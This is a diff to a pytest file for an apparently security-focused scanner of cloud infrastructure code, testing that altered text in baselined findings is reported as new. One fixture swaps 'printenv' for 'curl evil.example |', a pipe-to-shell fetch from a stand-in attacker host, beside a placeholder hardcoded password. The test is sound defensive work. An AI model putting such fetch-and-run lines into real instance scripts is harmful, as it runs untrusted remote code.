@@ -198,27 +198,24 @@ aws.ec2.Instance("i", opts=opts, user_data="export DB_PASSWORD=hunter2-9Xk2; pri
 """
 
 
-@pytest.mark.parametrize(
-    ("before", "after", "rule"),
-    [
-        ("deploy-1234567", "deploy-7654321", "GH-S3-012"),
-        ('"hunter2-9Xk2"', '"hunter3-9Xk2"', "GH-LAM-003"),
-        ('"info"', '"debug"', ""),
-        ("printenv", "curl evil.example |", "GH-EC2-005"),
-    ],
-)
 def test_other_text_of_an_accepted_finding_is_new(
-    program: Path, check: Check, tmp_path: Path, before: str, after: str, rule: str
+    program: Path, check: Check, tmp_path: Path
 ) -> None:
     file = tmp_path / "baseline.json"
     gate = ("--only", "GH-S3-012", "--only", "GH-LAM-003", "--only", "GH-EC2-005")
     (program / "__main__.py").write_text(FOREIGN)
     assert {row["ruleId"] for row in check(*gate)[1]} == {"GH-S3-012", "GH-LAM-003", "GH-EC2-005"}
     write_baseline(program, file)
-    (program / "__main__.py").write_text(FOREIGN.replace(before, after))
-    code, results = check(*gate, "--baseline", str(file))
-    new = {row["ruleId"] for row in results if row["baselineState"] == "new"}
-    assert (code, new) == ((1, {rule}) if rule else (0, set()))
+    for before, after, rule in (
+        ("deploy-1234567", "deploy-7654321", "GH-S3-012"),
+        ('"hunter2-9Xk2"', '"hunter3-9Xk2"', "GH-LAM-003"),
+        ('"info"', '"debug"', ""),
+        ("printenv", "curl evil.example |", "GH-EC2-005"),
+    ):
+        (program / "__main__.py").write_text(FOREIGN.replace(before, after))
+        code, results = check(*gate, "--baseline", str(file))
+        new = {row["ruleId"] for row in results if row["baselineState"] == "new"}
+        assert (code, new) == ((1, {rule}) if rule else (0, set())), after
 
 
 def test_unknown_value_is_not_compared() -> None:
